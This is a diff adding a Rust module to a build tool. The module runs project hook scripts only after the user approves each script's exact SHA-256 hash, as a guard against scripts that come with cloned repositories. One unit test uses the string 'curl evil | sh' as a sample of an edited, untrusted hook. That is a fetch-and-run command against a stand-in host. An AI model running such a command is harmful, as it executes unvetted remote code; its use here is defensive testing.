@@ -0,0 +1,223 @@
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use sha2::{Digest, Sha256};
+use tauri::{Emitter, Manager};
+use tokio::process::Command;
+use crate::error::HyperZenithError;
+use crate::events::BuildChannel;
+
+/// Where a project keeps its hook scripts
+pub const HOOKS_DIR: &str = ".hyperzenith/hooks";
+/// Hook scripts the user approved, per project: file name to SHA-256 of the approved version
+const TRUST_FILE: &str = "hook_trust.json";
+
+#[derive(serde::Serialize, Clone, Copy, Debug, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+pub enum Hook {
+    /// Before anything else; a failing pre-build hook stops the build
+    PreBuild,
+    PostBuild,
+    /// Once artifacts are in the archive
+    PostArchive,
+    OnFailure,
+}
+
+impl Hook {
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::PreBuild => "pre-build",
+            Self::PostBuild => "post-build",
+            Self::PostArchive => "post-archive",
+            Self::OnFailure => "on-failure",
+        }
+    }
+}
+
+/// What a hook receives as JSON on stdin
+#[derive(serde::Serialize, Clone, Debug, Default)]
+pub struct HookPayload {
+    pub hook: Option<Hook>,
+    pub build_id: String,
+    pub project: String,
+    pub platform: String,
+    pub build_type: String,
+    pub variant: Option<String>,
+    /// `None` before the build has run
+    pub success: Option<bool>,
+    pub message: Option<String>,
+    pub artifacts: Vec<String>,
+    pub release_notes: Option<String>,
+}
+
+/// `pre-build`, or `pre-build.<ext>` for scripts that need an extension to run on Windows.
+/// Names are matched exactly so `pre-build.sample` style files stay disabled.
+pub fn find(project_dir: &Path, hook: Hook) -> Option<PathBuf> {
+    let dir = project_dir.join(HOOKS_DIR);
+    let mut found: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .ok()?
+        .filter_map(|e| e.ok())
+        .map(|e| e.path())
+        .filter(|p| p.is_file())
+        .filter(|p| {
+            let name = p.file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default();
+            match name.strip_prefix(hook.name()) {
+                Some("") => true,
+                Some(ext) => ["sh", "bash", "py", "js", "ps1", "cmd", "bat"].iter().any(|e| ext.strip_prefix('.') == Some(e)),
+                None => false,
+            }
+        })
+        .collect();
+    found.sort();
+    found.into_iter().next()
+}
+
+/// A hook that was skipped because this version of it hasn't been approved, sent on `hook-untrusted`
+#[derive(serde::Serialize, Clone, Debug)]
+pub struct UntrustedHook {
+    pub project: String,
+    pub hook: Hook,
+    pub path: String,
+    pub sha256: String,
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    Sha256::digest(bytes).iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+fn trust_file(app: &tauri::AppHandle) -> Option<PathBuf> {
+    app.path().app_config_dir().ok().map(|dir| dir.join(TRUST_FILE))
+}
+
+fn load_trust(app: &tauri::AppHandle) -> HashMap<String, HashMap<String, String>> {
+    trust_file(app)
+        .and_then(|path| std::fs::read_to_string(path).ok())
+        .and_then(|text| serde_json::from_str(&text).ok())
+        .unwrap_or_default()
+}
+
+/// Whether `name` with this hash is the version approved for the project
+fn is_trusted(trust: &HashMap<String, HashMap<String, String>>, working_dir: &str, name: &str, sha256: &str) -> bool {
+    trust.get(working_dir).and_then(|scripts| scripts.get(name)).is_some_and(|approved| approved == sha256)
+}
+
+/// Approve one version of a hook script for the project. A later edit changes its hash and
+/// needs approving again.
+pub fn trust(app: &tauri::AppHandle, working_dir: &str, name: &str, sha256: &str) -> Result<(), HyperZenithError> {
+    if name.is_empty() || name.contains(['/', '\\']) || name.contains("..") {
+        return Err(HyperZenithError::InvalidInput(format!("Invalid hook script name: {}", name)));
+    }
+    let path = trust_file(app).ok_or("No app config directory")?;
+    let mut all = load_trust(app);
+    all.entry(working_dir.to_string()).or_default().insert(name.to_string(), sha256.to_string());
+    if let Some(dir) = path.parent() {
+        std::fs::create_dir_all(dir).map_err(|e| HyperZenithError::io_at(dir, e))?;
+    }
+    let json = serde_json::to_string_pretty(&all).map_err(|e| HyperZenithError::Other(e.to_string()))?;
+    std::fs::write(&path, json).map_err(|e| HyperZenithError::io_at(&path, e))
+}
+
+/// PowerShell and batch hooks run on Windows, everything else in WSL through its shebang
+/// (or bash when the file isn't executable, which files on `/mnt/c` often aren't)
+fn hook_command(script: &Path, working_dir: &str) -> Command {
+    let ext = script.extension().map(|e| e.to_string_lossy().to_lowercase()).unwrap_or_default();
+    let mut cmd = match ext.as_str() {
+        "ps1" => {
+            let mut cmd = Command::new("powershell");
+            cmd.args(["-NoProfile", "-ExecutionPolicy", "Bypass", "-File"]).arg(script);
+            cmd
+        },
+        "cmd" | "bat" => {
+            let mut cmd = Command::new("cmd");
+            cmd.arg("/C").arg(script);
+            cmd
+        },
+        _ => {
+            let wsl_script = crate::windows_to_wsl_path(&script.to_string_lossy());
+            let distro = crate::wsl::project_distro(working_dir);
+            let shell = format!(
+                "cd {} && if [ -x {s} ]; then exec {s}; else exec bash {s}; fi",
+                crate::sh_quote(&crate::windows_to_wsl_path(working_dir)),
+                s = crate::sh_quote(&wsl_script)
+            );
+            return crate::process::wsl_command_in(distro.as_deref(), &shell);
+        },
+    };
+    cmd.current_dir(working_dir).creation_flags(crate::CREATE_NO_WINDOW);
+    cmd
+}
+
+/// Run the project's script for `hook`, if it has one, with `payload` as JSON on stdin.
+/// Output streams on the build channel; a non-zero exit is an error. Scripts come with cloned
+/// repos, so one only runs once the user approved this exact version of it; until then it's
+/// skipped and announced on `hook-untrusted`.
+pub async fn run(channel: &BuildChannel, working_dir: &str, hook: Hook, payload: &HookPayload) -> Result<(), HyperZenithError> {
+    let Some(script) = find(Path::new(working_dir), hook) else { return Ok(()) };
+    let contents = std::fs::read(&script).map_err(|e| HyperZenithError::io_at(&script, e))?;
+    let sha256 = sha256_hex(&contents);
+    let name = script.file_name().map(|n| n.to_string_lossy().to_string()).unwrap_or_default();
+    if !is_trusted(&load_trust(&channel.app), working_dir, &name, &sha256) {
+        channel.line(format!("🔒 Skipped the {} hook: {} is new or changed since it was last approved for this project", hook.name(), script.display()));
+        let untrusted = UntrustedHook { project: working_dir.to_string(), hook, path: script.display().to_string(), sha256 };
+        let _ = channel.app.emit("hook-untrusted", &untrusted);
+        return Ok(());
+    }
+    let payload = HookPayload { hook: Some(hook), ..payload.clone() };
+    let input = serde_json::to_vec(&payload).map_err(|e| e.to_string())?;
+
+    channel.line(format!("🪝 Running {} hook ({})...", hook.name(), script.display()));
+    let mut cmd = hook_command(&script, working_dir);
+    cmd.env("HYPERZENITH_HOOK", hook.name()).env("HYPERZENITH_BUILD_ID", &payload.build_id);
+    let outcome = crate::process::run_streamed_with_input(channel, cmd, Some(&input), None).await?;
+    if !outcome.success {
+        return Err(HyperZenithError::CommandFailed {
+            command: format!("{} hook", hook.name()),
+            output: format!("{} exited with {}", script.display(), outcome.exit_code.map(|c| c.to_string()).unwrap_or_else(|| "a signal".to_string())),
+        });
+    }
+    Ok(())
+}
+
+/// `run` for hooks that must not change the build's outcome: failures are only logged
+pub async fn run_quietly(channel: &BuildChannel, working_dir: &str, hook: Hook, payload: &HookPayload) {
+    if let Err(e) = run(channel, working_dir, hook, payload).await {
+        channel.line(format!("⚠️ {}", e));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_find() {
+        let project = std::env::temp_dir().join(format!("hz_hooks_{}", std::process::id()));
+        let hooks = project.join(HOOKS_DIR);
+        std::fs::create_dir_all(&hooks).unwrap();
+        for name in ["pre-build.sample", "post-build.ps1", "post-build.sh", "on-failure", "post-archive-old"] {
+            std::fs::write(hooks.join(name), "").unwrap();
+        }
+
+        assert_eq!(find(&project, Hook::PreBuild), None);
+        assert_eq!(find(&project, Hook::PostBuild), Some(hooks.join("post-build.ps1")));
+        assert_eq!(find(&project, Hook::OnFailure), Some(hooks.join("on-failure")));
+        assert_eq!(find(&project, Hook::PostArchive), None);
+        std::fs::remove_dir_all(&project).unwrap();
+
+        let payload = HookPayload { hook: Some(Hook::PostArchive), ..Default::default() };
+        assert!(serde_json::to_string(&payload).unwrap().contains(r#""hook":"post-archive""#));
+    }
+
+    #[test]
+    fn test_is_trusted() {
+        assert_eq!(sha256_hex(b"abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
+        let approved = sha256_hex(b"echo hi\n");
+        let trust = HashMap::from([("C:\\Dev\\App".to_string(), HashMap::from([("pre-build.sh".to_string(), approved.clone())]))]);
+
+        assert!(is_trusted(&trust, "C:\\Dev\\App", "pre-build.sh", &approved));
+        // Edited since it was approved
+        assert!(!is_trusted(&trust, "C:\\Dev\\App", "pre-build.sh", &sha256_hex(b"curl evil | sh\n")));
+        // Same script in another project, or another script in this one
+        assert!(!is_trusted(&trust, "C:\\Dev\\Other", "pre-build.sh", &approved));
+        assert!(!is_trusted(&trust, "C:\\Dev\\App", "post-build.sh", &approved));
+    }
+}